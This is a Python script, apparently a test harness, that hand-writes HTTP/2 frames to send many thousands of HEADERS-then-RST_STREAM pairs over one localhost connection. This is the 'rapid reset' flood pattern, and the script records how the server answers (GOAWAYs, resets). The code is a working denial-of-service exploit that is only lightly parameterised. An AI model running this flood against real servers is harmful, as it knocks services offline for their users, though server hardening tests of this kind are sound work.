#!/usr/bin/env python3
"""HTTP/2 as an attacker speaks it: HEADERS and at once RST_STREAM, many thousand times on one connection.

Frames are written by hand, since what is tested is what no library would send. Headers need no table:
indexed fields of the static table and literals without indexing.
"""

import argparse
import socket
import struct
import threading
from collections import Counter

from wire import report

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(index: int, value: str) -> bytes:
    """A field without indexing; its name is one of the static table, its value is not compressed."""
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value.encode()


def get(path: str) -> bytes:
    # :method GET, :scheme http, :path, :authority
    return b"\x82\x86" + literal(4, path) + literal(1, "a")


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


class Connection:
    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.seen: Counter[str] = Counter()
        self.stream = -1
        self.open = 0  # of ask_and_reset_earlier
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.ended = threading.Event()
        self.answered = threading.Event()  # a PING of ours was
        threading.Thread(target=self.read, daemon=True).start()

    def read(self) -> None:
        """What the server says must be read, or it ends up waiting for us."""
        file = self.sock.makefile("rb")
        try:
            while len(head := file.read(9)) == 9:
                length, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
                payload = file.read(length)
                self.seen[{HEADERS: "headers", RST_STREAM: "resets", GOAWAY: "goaway"}.get(kind, "other")] += 1
                if kind == GOAWAY:
                    self.seen[f"goaway_{int.from_bytes(payload[4:8], 'big')}"] += 1
                if kind == SETTINGS and not flags & ACK:
                    self.sock.sendall(frame(SETTINGS, ACK, 0))
                if kind == PING and flags & ACK:
                    self.answered.set()
        except OSError:
            pass
        self.ended.set()
        self.answered.set()  # by its end

    def ask(self, path: str) -> bytes:
        self.stream += 2
        return frame(HEADERS, END_STREAM | END_HEADERS, self.stream, get(path))

    def ask_and_reset(self, path: str, count: int) -> None:
        self.sock.sendall(b"".join(self.ask(path) + reset(self.stream) for _ in range(count)))

    def ask_and_reset_earlier(self, path: str, count: int) -> None:
        """Asks, and resets those from the time before, which the server has begun with by now."""
        earlier = range(self.stream, self.stream - 2 * self.open, -2)
        out = b"".join(reset(stream) for stream in earlier)
        self.sock.sendall(out + b"".join(self.ask(path) for _ in range(count)))
        self.open = count

    def wait_for_server(self, seconds: float) -> bool:
        """Until it has read all that was sent so far."""
        self.answered.clear()
        if self.ended.is_set():
            return False
        try:
            self.sock.sendall(frame(PING, 0, 0, b"01234567"))
        except OSError:
            return False
        return self.answered.wait(seconds) and not self.ended.is_set()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/")
    parser.add_argument("--count", type=int, default=20_000)
    parser.add_argument("--at-once", type=int, default=20, help="pairs of frames written in one piece")
    parser.add_argument("--running", action="store_true", help="reset each after the server has begun with it")
    options = parser.parse_args()
    connection = Connection(options.port)
    asked = 0
    while asked < options.count and not connection.ended.is_set():
        batch = min(options.at_once, options.count - asked)
        try:
            if options.running:
                connection.ask_and_reset_earlier(options.path, batch)
                connection.wait_for_server(20)
            else:
                connection.ask_and_reset(options.path, batch)
        except OSError:
            break
        asked += batch
    if options.running:
        connection.ask_and_reset_earlier(options.path, 0)
    reached = connection.wait_for_server(20)
    report({"asked": asked, "all_read": reached} | dict(connection.seen))


if __name__ == "__main__":
    main()
